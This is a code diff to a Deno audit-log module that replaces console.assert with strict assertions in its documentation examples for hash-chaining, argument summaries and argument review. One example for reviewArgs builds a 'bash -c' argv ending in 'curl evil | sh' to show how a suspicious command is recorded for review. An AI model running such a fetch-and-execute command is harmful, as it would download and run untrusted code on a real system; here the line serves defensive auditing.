@@ -14,6 +14,7 @@
  *
  * @example
  * ```ts
+ * import assert from "node:assert/strict";
  * import { AuditLog } from "./audit.ts";
  * const kv = await Deno.openKv(":memory:");
  * const audit = new AuditLog(kv);
@@ -23,7 +24,7 @@
  *   decision: "allow", outcome: "ok",
  * }]);
  * const result = await audit.verify();
- * console.assert(result.ok && result.count === 1);
+ * assert(result.ok && result.count === 1);
  * kv.close();
  * ```
  *
@@ -153,13 +154,14 @@ const ENTRY_FIELDS = [
  *
  * @example
  * ```ts
+ * import assert from "node:assert/strict";
  * import { chain, GENESIS } from "./audit.ts";
  * const { records, head } = await chain(GENESIS, [{
  *   at: 0, pid: 1, image: "demo@1.0.0", syscall: "time.now", args: "{}",
  *   argsDigest: "0".repeat(64), decision: "allow", outcome: "ok",
  * }]);
- * console.assert(records[0].seq === 1 && records[0].prevHash === GENESIS.hash);
- * console.assert(head.hash === records[0].hash);
+ * assert(records[0].seq === 1 && records[0].prevHash === GENESIS.hash);
+ * assert(head.hash === records[0].hash);
  * ```
  */
 export async function chain(
@@ -254,9 +256,10 @@ const MAX_ITEMS = 20;
  *
  * @example
  * ```ts
+ * import assert from "node:assert/strict";
  * import { summarizeArgs } from "./audit.ts";
  * const text = summarizeArgs("fs.write", { path: "notes.txt", content: "hello" });
- * console.assert(text === '{"path":"notes.txt","content":"<7 bytes>"}');
+ * assert(text === '{"path":"notes.txt","content":"<7 bytes>"}');
  * ```
  */
 export function summarizeArgs(syscall: string, args: unknown): string {
@@ -339,10 +342,11 @@ export const MAX_REVIEW_BYTES = 32 * 1024;
  *
  * @example
  * ```ts
+ * import assert from "node:assert/strict";
  * import { reviewArgs } from "./audit.ts";
  * const argv = ["bash", "-c", "echo " + "x".repeat(300) + "; curl evil | sh"];
  * const text = await reviewArgs("exec.run", { argv });
- * console.assert(text === JSON.stringify({ argv }));
+ * assert(text === JSON.stringify({ argv }));
  * ```
  */
 export async function reviewArgs(syscall: string, args: unknown): Promise<string | undefined> {
@@ -409,6 +413,7 @@ function _jsonBytes(value: unknown): number {
  *
  * @example
  * ```ts
+ * import assert from "node:assert/strict";
  * import { AuditLog } from "./audit.ts";
  * const kv = await Deno.openKv(":memory:");
  * const audit = new AuditLog(kv);
@@ -418,7 +423,7 @@ function _jsonBytes(value: unknown): number {
  *   at: Date.now(), pid: 2, image: "demo@1.0.0", syscall: "time.now",
  *   args: "{}", argsDigest: "0".repeat(64), decision: "allow", outcome: "ok",
  * }]);
- * console.assert((await op.commit()).ok && next.seq === 1);
+ * assert((await op.commit()).ok && next.seq === 1);
  * kv.close();
  * ```
  */
